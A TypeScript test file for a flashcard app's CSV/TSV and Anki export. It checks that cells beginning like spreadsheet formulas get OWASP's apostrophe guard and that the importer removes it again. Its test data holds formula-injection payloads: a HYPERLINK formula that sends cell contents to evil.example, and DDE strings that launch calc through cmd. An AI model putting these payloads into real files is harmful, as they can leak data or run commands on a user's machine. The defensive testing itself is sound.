/**
 * CSV/TSV formula injection (hostile input, item 11): the export wrote cells starting with `=`, `+`, `-`,
 * `@` verbatim, which a spreadsheet runs as formulas. OWASP's guard is a leading `'`; Hopdrill's importer
 * takes it off, so the export still round-trips, and the Anki file stays what Anki reads.
 */
import { describe, expect, it } from "vitest";
import { ankiFromSet, delimitedFromSet, parseDelimitedItems, parseRecords, renderMarkdown } from "../../../lib/content";
import { guardFormula, unguardFormula } from "../../../lib/content/formula-cells";
import type { QuestionSetContent } from "../../../lib/schemas/question-set";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "- a Markdown list",
  "'=already guarded by hand",
  "''",
  "'",
  "'quoted'",
  "plain",
];

const set: QuestionSetContent = {
  slug: "formulas",
  title: "Formulas",
  description: "",
  tags: [],
  interviewMinutes: 20,
  items: HOSTILE.map((text, index) => ({
    id: `f-${index}`,
    kind: "flashcard" as const,
    front: text,
    back: text,
    tags: [text.replace(/\s+/g, "").slice(0, 40) || "t", "plain"],
  })),
};

/** Cells that start like a formula (OWASP's list: = + - @ tab CR). */
const formulaCells = (cells: readonly string[]) => cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));

describe("CSV/TSV export guards formula cells (issue 14, item 11)", () => {
  it.each([",", "\t"] as const)("no cell of the export with separator %j starts a formula", (separator) => {
    const text = delimitedFromSet(set, separator);
    const cells = parseRecords(text, separator, 1).records.flatMap((record) => record.fields);
    expect(cells.length).toBe((HOSTILE.length + 1) * 4);
    expect(formulaCells(cells)).toEqual([]);
    // each hostile cell is written with OWASP's guard
    expect(cells).toContain(`'${HOSTILE[0]}`);
    expect(cells).toContain("'- a Markdown list");
    expect(cells).toContain("'''=already guarded by hand".slice(1));
  });

  it.each([",", "\t"] as const)("our importer reads the export with separator %j back unchanged", (separator) => {
    const result = parseDelimitedItems(delimitedFromSet(set, separator), { separator });
    expect(result.ok && result.items.map((item) => [item.id, item.front, item.back, item.tags])).toEqual(
      set.items.map((item) => [item.id, item.front, item.back, item.tags]),
    );
  });

  it("guards and unguards as a known-answer table", () => {
    const table: [string, string][] = [
      ["=1", "'=1"],
      ["+1", "'+1"],
      ["-1", "'-1"],
      ["@a", "'@a"],
      ["\ta", "'\ta"],
      ["\ra", "'\ra"],
      ["'=1", "''=1"],
      ["''", "'''"],
      ["'a", "'a"],
      ["'", "'"],
      ["a=1", "a=1"],
      ["", ""],
    ];
    for (const [text, cell] of table) {
      expect(guardFormula(text)).toBe(cell);
      expect(unguardFormula(cell)).toBe(text);
    }
  });

  it("a spreadsheet's own guard is taken off on import", () => {
    const result = parseDelimitedItems("front,back\n'=1+1,'-answer\n");
    expect(result.ok && result.items.map((item) => [item.front, item.back])).toEqual([["=1+1", "-answer"]]);
  });

  it("the Anki file keeps its HTML fields as Anki reads them and starts no cell with a formula", () => {
    const text = ankiFromSet(set, renderMarkdown);
    const rows = parseRecords(text.replace(/^(#.*\n)+/, ""), "\t", 5).records;
    expect(rows.length).toBe(HOSTILE.length);
    const cells = rows.flatMap((record) => record.fields);
    expect(formulaCells(cells)).toEqual([]);
    // no `'` in front: the card shows what was written
    expect(rows[0]?.fields[0]).toBe(renderMarkdown(HOSTILE[0] ?? ""));
    expect(rows[0]?.fields[2]?.startsWith(" =HYPERLINK")).toBe(true);
    // Anki splits tags on spaces, so the guard space is no part of any tag
    expect(rows.map((record) => record.fields[2]?.split(" ").filter(Boolean))).toEqual(
      set.items.map((item) => item.tags),
    );
  });
});
